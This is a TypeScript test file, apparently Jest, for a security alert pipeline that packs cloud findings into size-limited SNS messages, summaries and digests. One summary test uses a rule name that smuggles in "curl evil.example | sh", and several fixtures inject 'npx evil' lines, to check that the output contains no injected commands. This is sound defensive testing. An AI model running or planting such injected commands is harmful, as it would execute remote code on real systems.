import { randomBytes } from 'node:crypto';
import { digestMessage } from '../../../shared/alert/digest-text.ts';
import { messageOf, type AlertMessage } from '../../../shared/alert/message.ts';
import { claimMessage, type Storm } from '../../../shared/alert/storm.ts';
import { summaryOf } from '../../../shared/alert/summary.ts';
import { withoutSecrets } from '../../../shared/alert/tlp.ts';
import type { Episode } from '../../../shared/alert/episode.ts';
import { BANK, guardDutyFinding, TIME } from './findings.ts';
import { foundIn, MINUTE, startWorld, type World } from './world.ts';

// https://docs.aws.amazon.com/sns/latest/api/API_Publish.html, https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/Constraints.html
const SNS_BYTES = 256 * 1024;
const ITEM_BYTES = 400 * 1024;
const HOUR = 60 * MINUTE;

let world: World;
beforeEach(async () => {
  world = await startWorld();
});
afterEach(async () => {
  await world.close();
});

function bytesOf({ body, attributes }: AlertMessage): number {
  return Object.entries(attributes).reduce(
    (sum, [name, { DataType = '', StringValue = '' }]) => sum + name.length + DataType.length + Buffer.byteLength(StringValue),
    Buffer.byteLength(body),
  );
}

function largestItem(): number {
  return Math.max(...[...world.table.items.values()].map((item) => Buffer.byteLength(JSON.stringify(item))));
}

/** Text that no compression makes shorter. */
function noise(bytes: number): string {
  return randomBytes(bytes).toString('base64');
}

describe('a finding of any size', () => {
  const info = { uid: 'finding-1', title: 'Title', types: ['Type'] };

  it.each([
    ['description', guardDutyFinding(4, { finding_info: { ...info, desc: noise(450_000) } })],
    ['id', guardDutyFinding(4, { finding_info: { ...info, uid: noise(450_000) } })],
    [
      'list of events',
      guardDutyFinding(4, { finding_info: { ...info, related_events: Array.from({ length: 30 }, () => ({ uid: noise(15_000) })) } }),
    ],
  ])('is alerted, and fits the table: %s', async (_, finding) => {
    expect(await world.raise(finding)).toMatchObject({ alerted: 1 });
    // Reported again, with more.
    await world.raise({ ...finding, count: 9 }, { ...finding, count: 19, severity_id: 5 });
    expect(world.sns.published.map(({ attributes }) => attributes['severity_id']?.[1])).toEqual(['4', '5']);
    expect(largestItem()).toBeLessThan(ITEM_BYTES);
  });

  it('is told after its worker died, with what it is', async () => {
    const finding = guardDutyFinding(4, { finding_info: { ...info, desc: noise(450_000) } });
    world.sns.failures.push('InternalError');
    await expect(world.raise(finding)).rejects.toThrow();
    await world.sweep();
    expect(world.sns.published).toHaveLength(1);
    expect(world.sns.published[0]?.subject).toBe('[HIGH] Title - account 222222222222 (payments-prod)');
  });

  it('is a message that SNS takes, however much it is routed by', () => {
    const attacks = Array.from({ length: 100 }, (_, at) => ({ technique: { uid: `${at}${'\u4e00'.repeat(300)}` } }));
    const finding = guardDutyFinding(4, { finding_info: { ...info, attacks }, unmapped: { more: 'z'.repeat(150_000) } });
    const message = messageOf(finding, { bank: BANK, vaultBucket: 'vault', evidence: 'key' });
    expect(bytesOf(message)).toBeLessThan(SNS_BYTES);
    expect(message.body).toContain('"truncated":true');
  });
});

describe('a message that SNS takes for wrong', () => {
  it('goes out in plain words, and those behind it as they are', async () => {
    world.sns.failures.push('InvalidParameter');
    await world.raise(foundIn({ events: ['a'], uid: 'a', rule: 'R\u00e4gel' }), foundIn({ events: ['b'], uid: 'b' }));
    const [plain, next] = world.sns.published;
    expect(plain?.message).toMatch(
      /^Title of Ragel\n[\x20-\x7e\n]*SNS did not take the message as it was[\x20-\x7e\n]*\{"alert":"[\w-]{22}","truncated":true\}$/,
    );
    expect(plain?.attributes).toMatchObject({
      severity: ['String', 'high'],
      rule_id: ['String', 'Ragel'],
      tags: ['String.Array', '["T1078","sigma"]'],
    });
    expect(next?.message).toContain('"finding":{');
  });

  it('fails where SNS refuses even those', async () => {
    world.sns.failures.push('InvalidParameter', 'InvalidParameter');
    await expect(world.raise(foundIn({ events: ['a'] }))).rejects.toThrow('by the test');
  });
});

describe('a summary', () => {
  const storm = {
    format: 1,
    kind: 'rule',
    name: 'Name',
    hour: 0,
    sent: 20,
    severity: 4,
    accounts: [],
    otherAccounts: 0,
    rules: {},
  } as const;
  const caps = { rule: 20, bank: 20, critical: 200 };
  const episode = (uid: string, severity: number, rule = 'rule'): Episode =>
    ({ uid, severity, rule, ruleName: rule, title: 'Title', account: '222222222222' }) as Episode;

  it('has no command in it that somebody else wrote', () => {
    const rule = "x'; curl evil.example | sh; '";
    const { body } = summaryOf({ ...storm, rule, held: 1, first: [], isTold: false }, { bank: BANK });
    expect(body.split('\n').filter((line) => line.startsWith('npx'))).toEqual([
      "npx strongroom search 'class_uid:2004' --from 1970-01-01T00:00:00Z --to 1970-01-01T01:00:00Z --bank demo",
    ]);
  });

  it('names the worst first, in lines of their own, and is small whatever they are called', () => {
    const storms = new Map<string, Storm>();
    const hold = (one: Episode): void => {
      const claimed = claimMessage({ episode: one, bank: 'demo', caps: { ...caps, rule: 0 }, now: 0, storm: (id) => storms.get(id) });
      for (const [id, written] of claimed.storms) storms.set(id, written);
    };
    for (let at = 0; at < 30; at++) hold(episode(`\nWhat to do\nnpx evil ${at} ${'x'.repeat(300_000)}`, 2));
    hold(episode('high', 4));
    const [held] = storms.values();
    expect(held?.first).toHaveLength(10);
    expect(held?.first[0]?.uid).toBe('high');
    expect(JSON.stringify(held).length).toBeLessThan(20_000);
    const { body } = held === undefined ? { body: '' } : summaryOf(held, { bank: BANK });
    expect(body).not.toContain('\nnpx evil');
  });

  it('is not where a high finding ends because of many that are low', () => {
    const storms = new Map<string, Storm>();
    const ask = (one: Episode): boolean => {
      const claimed = claimMessage({ episode: one, bank: 'demo', caps, now: 0, storm: (id) => storms.get(id) });
      for (const [id, written] of claimed.storms) storms.set(id, written);
      return claimed.granted;
    };
    const granted = Array.from({ length: 300 }, (_, at) => ask(episode(`${at}`, 3, `rule-${at % 15}`))).filter(Boolean);
    expect(granted).toHaveLength(10);
    expect(ask(episode('high', 4, 'another'))).toBe(true);
  });
});

it('what fails comes behind what has been due for longer', async () => {
  world.sns.failures.push('InternalError');
  await expect(world.raise(foundIn({ events: ['a'] }))).rejects.toThrow();
  const [episode] = [...world.table.items].filter(([id]) => id.startsWith('f/') && !id.endsWith('/finding'));
  expect(episode?.[1]['due']).toEqual({ N: String(world.now) });
  await world.sweep();
  expect(world.sns.published).toHaveLength(1);
});

it('a product that dates the end of a finding into the future does not keep it quiet until then', async () => {
  await world.raise(guardDutyFinding(4));
  await world.raise(guardDutyFinding(4, { activity_id: 3, time: TIME + 1000 * 24 * HOUR }));
  world.now += 2 * HOUR;
  const again = { finding_info: { ...(guardDutyFinding(4)['finding_info'] as object), last_seen_time: world.now }, count: 4 };
  await world.raise(guardDutyFinding(4, { ...again, time: world.now }));
  expect(world.sns.published).toHaveLength(2);
});

it('marks of indicators do not grow into a page', () => {
  const osint = Array.from({ length: 6 }, (_, at) => ({
    value: 'abcdefgh'.charAt(at).repeat(4),
    tlp: 'abcdefgh'.charAt(at + 1).repeat(400),
  }));
  const nested = ['(tlp', 'tlp:', ':red', 'red)', '(tlp:', 'tlp:r'].map((value) => ({ value, tlp: 'RED' }));
  for (const given of [osint, [...nested, ...nested, ...nested, ...nested]]) {
    const { message } = withoutSecrets(guardDutyFinding(4, { message: 'aaaa (TLP:RED)', osint: given }));
    expect(String(message).length).toBeLessThan(200);
    expect(String(message)).not.toContain('aaaa'.repeat(given === osint ? 1 : 2));
  }
});

it('the digest is a message that SNS takes, whatever products and rules call themselves', () => {
  const silent = Array.from({ length: 200 }, (_, at) => ({ product: `${at}\nWhat to do\nnpx evil${'p'.repeat(8000)}`, last: 0 }));
  const rules = Array.from({ length: 10 }, (_, at) => ({ name: `${at}\nnpx evil${'r'.repeat(8000)}`, findings: 1 }));
  const numbers = { findings: 1, severities: [], rules, accounts: rules, silent };
  const nothing = { reason: undefined, open: [], openCount: 0, answered: 0, meanAnswerMs: undefined };
  const message = digestMessage(BANK, { range: { from: 0, to: TIME }, numbers, ...nothing });
  expect(bytesOf(message)).toBeLessThan(SNS_BYTES);
  expect(message.body).not.toContain('\nnpx evil');
  expect(message.body).toContain('and 150 more');
});
